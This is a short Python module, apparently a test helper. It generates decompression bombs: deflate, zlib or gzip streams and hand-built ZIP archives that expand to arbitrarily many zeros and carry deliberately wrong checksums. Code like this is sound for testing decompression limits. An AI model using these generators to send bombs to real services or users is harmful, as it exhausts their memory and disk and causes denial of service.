"""Deflated zeros, as many as one likes, made in no time: the stuff of decompression bombs."""

import struct
import zlib
from pathlib import Path

MEGABYTE = 2**20
#: 16 MiB of zeros that refer to nothing before them and can follow one another.
_UNIT = 16 * MEGABYTE


def deflated(before: bytes, zeros: int, wbits: int = -zlib.MAX_WBITS) -> bytes:
    """A deflated stream of `before` and then at least so many zeros, raw or with zlib's or gzip's header.

    Its checksum, if it has one, is wrong: whoever comes to see it has unpacked everything.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    head = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    unit = packer.compress(bytes(_UNIT)) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + unit * -(-zeros // _UNIT) + b"\x03\x00" + bytes(8)


def zipped(path: Path, members: dict[str, tuple[bytes, int]]) -> Path:
    """An archive of members that are deflated already: name -> (packed bytes, bytes that they unpack to)."""
    content, table = b"", b""
    for name, (packed, size) in members.items():
        sizes = struct.pack("<LLLHH", 0, len(packed), min(size, 2**32 - 1), len(name), 0)
        table += b"PK\x01\x02" + struct.pack("<6H", 20, 20, 0, 8, 0, 0) + sizes
        table += struct.pack("<HHHLL", 0, 0, 0, 0, len(content)) + name.encode()
        content += b"PK\x03\x04" + struct.pack("<5H", 20, 0, 8, 0, 0) + sizes + name.encode() + packed
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(table), len(content), 0)
    path.write_bytes(content + table + end)
    return path
